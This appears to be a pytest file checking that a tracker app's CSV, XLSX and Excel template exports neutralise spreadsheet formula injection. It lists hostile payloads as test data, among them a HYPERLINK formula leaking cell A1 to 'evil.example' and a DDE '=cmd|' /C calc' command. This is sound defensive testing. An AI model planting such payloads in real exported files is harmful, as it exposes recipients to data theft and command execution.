"""Formula injection into the files the tracker writes (issue 16, finding 7): text that people
typed (an indicator name, an action title, a narrative) starting with =, +, -, @ is written as
text in the XLSX export and the Excel template, and neutralised in the CSV; numbers stay
numbers. Every one of those files is written through core.cells."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from exports.services.csv import membership_update_csv
from exports.services.membership import membership_update_build
from exports.services.xlsx import membership_update_xlsx
from plans.models import Action
from reporting.excel.columns import COLUMN_INDEX, FIRST_DATA_ROW
from reporting.excel.template import excel_template_build
from reporting.excel.upload import excel_upload_parse
from reporting.services.validation import UpdateValues
from reporting.services.workflow import update_save
from rollups.models import Rollup
from tests.exports.helpers import write_rollup

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.fixture
def hostile_world(strategy, periods, number_indicator, kenya):
    """An indicator, an action and a roll-up whose texts are formulas."""
    number_indicator.name = PAYLOADS[0]
    number_indicator.unit = "@people"
    number_indicator.save()
    deliverable = number_indicator.deliverable
    for number, payload in enumerate(PAYLOADS):
        Action.objects.create(
            strategy=strategy,
            deliverable=deliverable,
            title=payload,
            expected_results=PAYLOADS[-1 - number],
            office=kenya,
            lead="=1+1",
            start_date=dt.date(2023, 1, 1),
            due_date=dt.date(2023, 12, 31),
        )
    last = periods[-1]
    write_rollup(
        number_indicator,
        last,
        span=Rollup.Span.STRATEGY_TO_DATE,
        actual=Decimal("-5"),
        target=Decimal("100"),
        baseline=Decimal("0"),
        progress=Decimal("-0.05"),
        status="off_track",
        updates_count=1,
        offices_count=1,
    )
    return membership_update_build(strategy=strategy, period_from=periods[0], period_to=last)


def _cells(data: bytes):
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_xlsx_export_writes_every_text_as_text(hostile_world):
    cells = list(_cells(membership_update_xlsx(update=hostile_world)))
    # no cell anywhere is a formula
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    for payload in PAYLOADS:
        assert payload in texts, payload
    # and the payloads are marked as text for Excel too (editing the cell keeps it text)
    marked = [c for c in cells if c.value in PAYLOADS]
    assert all(c.quotePrefix for c in marked)
    # numbers stay numbers (a negative figure is not text)
    assert any(c.value == -5 and c.data_type == "n" for c in cells)


def test_csv_export_neutralises_cells_that_would_start_a_formula(hostile_world):
    text = membership_update_csv(update=hostile_world).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    row = rows[0]
    assert row["indicator_name"] == "'" + PAYLOADS[0]
    assert row["unit"] == "'@people"
    # numbers, negative ones included, stay plain numbers
    assert row["actual"] == "-5"
    assert row["progress"] == "-0.05"
    for line in text.splitlines()[1:]:
        for field in next(csv.reader([line])):
            assert not field.startswith(("=", "+", "@", "\t")), field


def test_excel_template_writes_narratives_as_text_and_reads_them_back(
    users, kenya, period, number_indicator
):
    # given a draft whose narrative and the indicator's name look like formulas
    number_indicator.name = "=1+1"
    number_indicator.save()
    update_save(
        user=users["field"],
        indicator=number_indicator,
        office=kenya,
        period=period,
        values=UpdateValues(
            value=Decimal("3"),
            disaggregations={"sex": {"female": 3}},
            narrative='=HYPERLINK("http://evil.example","x")',
        ),
    )
    content = excel_template_build(user=users["field"], office=kenya, period=period)
    sheet = load_workbook(io.BytesIO(content))["Updates"]
    narrative = sheet.cell(row=FIRST_DATA_ROW, column=COLUMN_INDEX["narrative"])
    name = sheet.cell(row=FIRST_DATA_ROW, column=COLUMN_INDEX["indicator"])
    assert (narrative.data_type, narrative.value) == ("s", '=HYPERLINK("http://evil.example","x")')
    assert name.data_type == "s"
    assert not [c.coordinate for c in _cells(content) if c.data_type == "f"]
    # and the narrative survives the round trip as the text it was
    preview = excel_upload_parse(user=users["field"], office=kenya, period=period, file=content)
    assert not preview.problems


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+41", "'+41"),
        ("-41", "'-41"),
        ("@x", "'@x"),
        ("\r=1", "'\r=1"),
        ("plain", "plain"),
        ("", ""),
        (None, ""),
        (Decimal("-41.50"), "-41.5"),
        (-3, "-3"),
        (True, "1"),
    ],
)
def test_csv_cell_neutralises_text_and_keeps_numbers(value, written):
    from core.cells import csv_cell, csv_row

    assert csv_cell(value) == written
    assert csv_row([value]) == [written]
